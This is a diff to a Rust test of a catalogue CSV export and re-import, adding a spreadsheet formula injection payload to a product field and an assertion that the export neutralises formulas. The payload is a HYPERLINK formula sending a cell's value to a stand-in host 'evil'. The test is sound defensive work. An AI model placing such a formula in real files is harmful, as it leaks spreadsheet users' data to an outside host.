@@ -22,7 +22,7 @@ async fn a_catalogue_comes_back_as_it_was_exported() {
     let store = store().await;
     let odd = [
         ("007", "零, \"半\" 价; 红 L", "Brand", "多\r\n行\n描述", "0690123456789", 1_280_050, "CNY"),
-        ("=SUM(1)", "+86 tea", "-", "=\"quoted\"", "6901234567890", 5, "EUR"),
+        ("=SUM(1)", "=HYPERLINK(\"http://evil/?\"&A1,\"ok\")", "-", "=\"quoted\"", "6901234567890", 5, "EUR"),
         ("红 L", "Shirt", "", "", "", 1580, "JPY"),
         ("B-1", "@home", "\"", "a\tb", "", 0, "CNY"),
     ];
@@ -40,7 +40,9 @@ async fn a_catalogue_comes_back_as_it_was_exported() {
     let received = StockMovement { sku: sku("007"), delta: 12, reason: MovementReason::Received, order_id: None };
     store.move_stock(&received).await.unwrap();
     let file = store.dir.path().join("out.csv");
-    fs::write(&file, store.export_catalogue().await.unwrap()).unwrap();
+    let text = store.export_catalogue().await.unwrap();
+    assert!(!text.contains(",=") && !text.contains(",\"=H"), "nothing a spreadsheet would run: {text}");
+    fs::write(&file, text).unwrap();
 
     let again = import(&store, &file).await;
     assert_eq!((again.unchanged, again.problems), (4, vec![]), "into the same store it changes nothing");
